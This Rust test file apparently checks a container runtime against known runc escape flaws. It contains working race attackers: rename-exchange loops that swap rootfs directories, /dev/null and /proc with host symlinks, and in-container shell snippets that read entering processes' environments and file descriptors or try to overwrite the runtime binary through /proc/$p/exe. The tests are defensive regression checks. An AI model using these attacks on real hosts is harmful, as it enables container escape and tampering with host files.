//! Attackers that act while the runtime does: a neighbour that exchanges files of a shared volume all the time, a process of the
//! container that looks at everybody who enters. Each runs for a bounded time, and wins against a runtime that checks a name
//! and then uses the name: `conformance/security/prove.py` makes such runtimes.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::symlink;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use nix::sys::socket::{
    AddressFamily, Backlog, SockFlag, SockType, UnixAddr, bind, listen, socket,
};
use serde_json::json;

use crate::support::{Bundle, Cx, eventually, tests};

tests! {
    host cve_2021_30465_a_mount_target_exchanged = "runc 1.1.5 mounts by name in some cases";
    host cve_2024_45310_directories_of_a_mount_point = "runc 1.1.5 is CVE-2024-45310";
    host cve_2025_31133_a_null_swapped_all_the_time = "runc 1.1.5 is CVE-2025-31133";
    host cve_2025_52881_a_proc_swapped_all_the_time = "runc 1.1.5 is CVE-2025-52881";
    host cve_2016_9962_a_process_on_its_way_in_cannot_be_traced = "runc 1.1.5 has no --pidfd-socket";
    host cve_2016_9962_a_process_on_its_way_in_holds_nothing_of_the_host = "runc 1.1.5 has no --pidfd-socket";
    host cve_2019_5736_the_runtimes_binary_cannot_be_written = "runc 1.1.5 has no --pidfd-socket";
    host a_read_only_bind_is_never_writable = "runc 1.1.5 remounts it";
}

/// How long an attacker tries.
const ROUNDS: Duration = Duration::from_secs(4);

/// renameat2(2) with RENAME_EXCHANGE, which `nix` has with glibc alone.
fn exchange([one, other]: &[CString; 2]) {
    // SAFETY: both paths are null-terminated and outlive the call.
    unsafe {
        libc::syscall(
            libc::SYS_renameat2,
            libc::AT_FDCWD,
            one.as_ptr(),
            libc::AT_FDCWD,
            other.as_ptr(),
            libc::RENAME_EXCHANGE,
        )
    };
}

/// Calls `victim` again and again while two names are exchanged as fast as the kernel does it. How often it was called.
fn while_exchanged(one: &Path, other: &Path, mut victim: impl FnMut()) -> usize {
    let stop = AtomicBool::new(false);
    let names = [one, other].map(|path| CString::new(path.as_os_str().as_bytes()).unwrap());
    let mut rounds = 0;
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                exchange(&names);
            }
        });
        let end = Instant::now() + ROUNDS;
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            while rounds < 10 || Instant::now() < end {
                victim();
                rounds += 1;
            }
        }));
        stop.store(true, Ordering::Relaxed);
        outcome.unwrap_or_else(|panic| std::panic::resume_unwind(panic));
    });
    rounds
}

fn entries(dir: &Path) -> Vec<PathBuf> {
    let read = std::fs::read_dir(dir).unwrap();
    read.map(|entry| entry.unwrap().path()).collect()
}

/// A directory of the rootfs, and beside it a link to one of the host, to be exchanged.
fn directory_and_link(bundle: &Bundle, outside: &Path) -> (PathBuf, PathBuf) {
    let (real, link) = (bundle.rootfs().join("vol"), bundle.rootfs().join("link"));
    std::fs::create_dir(&real).unwrap();
    symlink(outside, &link).unwrap();
    (real, link)
}

fn cve_2021_30465_a_mount_target_exchanged(cx: &Cx) {
    let mut bundle = cx.script("grep -c ' /.*/t ' /proc/self/mountinfo");
    let (outside, source) = (cx.dir.join("outside"), cx.dir.join("source"));
    for dir in [&outside.join("t"), &source] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let (real, link) = directory_and_link(&bundle, &outside);
    std::fs::create_dir(real.join("t")).unwrap();
    bundle.bind(&source, "/vol/t", &[]);
    // In the container's mount namespace, while the host's tree is still there.
    let escaped = cx.dir.join("escaped");
    let look = format!(
        "if grep -q ' {}/t ' /proc/self/mountinfo; then : >{}; fi",
        outside.display(),
        escaped.display()
    );
    bundle.set(
        "/hooks/createContainer",
        json!([{"path": "/bin/sh", "args": ["sh", "-c", look]}]),
    );
    let mut good = 0;
    let rounds = while_exchanged(&real, &link, || {
        let output = cx.run(&bundle);
        if output.code == 0 {
            assert_eq!(output.text(), "1", "where is the mount? {output}");
            good += 1;
        }
    });
    assert!(!escaped.exists(), "a mount on the host's directory");
    assert!(good > 0, "none of {rounds} runs was good");
}

fn cve_2024_45310_directories_of_a_mount_point(cx: &Cx) {
    let mut bundle = cx.script("true");
    let outside = cx.dir.join("outside");
    std::fs::create_dir(&outside).unwrap();
    let (real, link) = directory_and_link(&bundle, &outside);
    bundle.mount("/vol/a/b", "tmpfs", "tmpfs", &[]);
    let mut good = 0;
    while_exchanged(&real, &link, || {
        good += usize::from(cx.run(&bundle).code == 0);
        // To be made again in the next round.
        for dir in [&real, &link] {
            let _ = std::fs::remove_dir(dir.join("a/b"));
            if !dir.is_symlink() {
                let _ = std::fs::remove_dir_all(dir.join("a"));
            }
        }
        assert_eq!(entries(&outside), [] as [PathBuf; 0], "made on the host");
    });
    assert!(good > 0, "no run was good");
}

fn cve_2025_31133_a_null_swapped_all_the_time(cx: &Cx) {
    let mut bundle = cx.script("stat -c %t:%T /etc/secret; echo x >/etc/secret; cat /etc/target");
    let volume = cx.dir.join("dev");
    std::fs::create_dir(&volume).unwrap();
    for destination in ["/dev", "/dev/pts", "/dev/shm", "/dev/mqueue"] {
        bundle.without_mount(destination);
    }
    bundle.bind(&volume, "/dev", &[]);
    bundle.set("/linux/maskedPaths", json!(["/etc/secret"]));
    for name in ["secret", "target"] {
        std::fs::write(bundle.rootfs().join("etc").join(name), name).unwrap();
    }
    let (null, link) = (volume.join("null"), volume.join("link"));
    cx.host(&format!("mknod -m 666 {} c 1 3", null.display()))
        .ok();
    symlink("/etc/target", &link).unwrap();
    while_exchanged(&null, &link, || {
        let output = cx.run(&bundle);
        assert_eq!(output.text(), "1:3\ntarget", "{output}");
    });
}

/// The attacker has a proc of files at hand, and exchanges it with the real one as soon as that is mounted.
fn cve_2025_52881_a_proc_swapped_all_the_time(cx: &Cx) {
    let mut bundle = cx.script("true");
    for list in ["maskedPaths", "readonlyPaths"] {
        bundle.set(&format!("/linux/{list}"), json!([]));
    }
    let fake = bundle.rootfs().join("fake/sys/net/ipv4");
    std::fs::create_dir_all(&fake).unwrap();
    let file = fake.join("ip_forward");
    std::fs::write(&file, "fake").unwrap();
    let (proc, link) = (bundle.rootfs().join("proc"), bundle.rootfs().join("link"));
    symlink("/fake", &link).unwrap();
    bundle.set("/linux/sysctl", json!({"net.ipv4.ip_forward": "1"}));
    let mut good = 0;
    while_exchanged(&proc, &link, || {
        good += usize::from(cx.run(&bundle).code == 0);
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "fake");
    });
    assert!(good > 0, "no run was good");
}

/// A socket that connects to nobody more: a runtime that has a pidfd to send stands there with the process on its way in.
struct Held {
    path: PathBuf,
    _listening: std::os::fd::OwnedFd,
    _waiting: UnixStream,
}

fn held(cx: &Cx) -> Held {
    let path = cx.dir.join("held");
    let flags = SockFlag::SOCK_CLOEXEC;
    let listening = socket(AddressFamily::Unix, SockType::Stream, flags, None).unwrap();
    bind(
        std::os::fd::AsRawFd::as_raw_fd(&listening),
        &UnixAddr::new(&path).unwrap(),
    )
    .unwrap();
    listen(&listening, Backlog::new(0).unwrap()).unwrap();
    let waiting = UnixStream::connect(&path).unwrap();
    Held {
        path,
        _listening: listening,
        _waiting: waiting,
    }
}

/// A container whose program meets every process of the runtime with `attack`, which has its directory in /proc as `$p`; while
/// it does, an `exec` stands in the container, with all rights of its program and ready to become it. What the attacker wrote
/// down.
fn met(cx: &Cx, capabilities: &[&str], attack: &str) -> String {
    let volume = cx.dir.join("volume");
    std::fs::create_dir(&volume).unwrap();
    let mut bundle = cx.script(&format!(
        "while :; do
           for p in /proc/[0-9]*; do
             read name 2>/dev/null <$p/comm || continue
             case $name in rundlet*) {attack}; grep -q 'NoNewPrivs:.*1' $p/status && : >/mnt/met;; esac
           done
         done 2>/dev/null"
    ));
    bundle.bind(&volume, "/mnt", &[]);
    if !capabilities.is_empty() {
        bundle.capabilities(capabilities);
    }
    let container = cx.start(&bundle);
    let held = held(cx);
    let command = cx.command(&[
        "exec",
        "--pidfd-socket",
        held.path.to_str().unwrap(),
        &container.id,
        "true",
    ]);
    let mut running = cx.spawn(command);
    eventually("the attacker meets the process", 8, || {
        volume.join("met").exists()
    });
    // A whole round more.
    std::fs::remove_file(volume.join("met")).unwrap();
    eventually("the attacker meets it again", 8, || {
        volume.join("met").exists()
    });
    let _ = running.child.kill();
    running.wait();
    container.end();
    std::fs::read_to_string(volume.join("won")).unwrap_or_default()
}

/// To read its environment takes the right to trace it.
fn cve_2016_9962_a_process_on_its_way_in_cannot_be_traced(cx: &Cx) {
    let attack = "cat $p/environ >/dev/null && echo $p >>/mnt/won";
    assert_eq!(met(cx, &[], attack), "", "it was traced");
}

fn cve_2016_9962_a_process_on_its_way_in_holds_nothing_of_the_host(cx: &Cx) {
    let mark = cx.file("mark", "of the host");
    let attack = format!(
        "[ -e $p/root{} ] && echo $p/root >>/mnt/won
         for f in $p/fd/*; do [ -d $f -o -e $f/state.json ] && echo $f >>/mnt/won; done",
        mark.display()
    );
    let capabilities = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH"];
    assert_eq!(met(cx, &capabilities, &attack), "", "it held that");
}

/// The attacker keeps the runtime's executable open, and writes to it as soon as nobody runs it any more.
fn cve_2019_5736_the_runtimes_binary_cannot_be_written(cx: &Cx) {
    let own = cx.dir.join("rundlet");
    std::fs::copy(&cx.runtime, &own).unwrap();
    let before = std::fs::read(&own).unwrap();
    let victim = Cx {
        dir: cx.dir.clone(),
        token: cx.token.clone(),
        runtime: own.clone(),
        world: cx.world,
    };
    let attack = "[ -e /tmp/open ] || { exec 9<$p/exe && : >/tmp/open
          ( while :; do echo evil >/proc/self/fd/9 && echo written >>/mnt/won && break; done ) & }";
    let capabilities = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH"];
    let won = met(&victim, &capabilities, attack);
    assert_eq!(won, "", "it was opened for writing");
    assert!(std::fs::read(&own).unwrap() == before, "it was written");
}

/// All that the runtime and what it clones do is looked at between two system calls: whenever the mount is there, it is read-only.
fn a_read_only_bind_is_never_writable(cx: &Cx) {
    let mut bundle = cx.script("true");
    let source = cx.dir.join("source");
    std::fs::create_dir(&source).unwrap();
    bundle.bind(&source, "/mnt", &["ro", "nosuid"]);
    bundle.write();
    let path = bundle.path.to_str().unwrap();
    let mut seen = 0;
    let output = cx.run_traced(&["run", "--bundle", path, &bundle.id], |pid| {
        let table = std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap_or_default();
        for line in table.lines() {
            let mut fields = line.split(' ').skip(4);
            let (point, options) = (fields.next().unwrap(), fields.next().unwrap());
            if point.ends_with("/mnt") && point.len() < 200 && line.contains("/source ") {
                seen += 1;
                assert!(options.starts_with("ro,nosuid"), "{line}");
            }
        }
    });
    output.ok();
    assert!(seen > 0, "the mount was never seen");
}
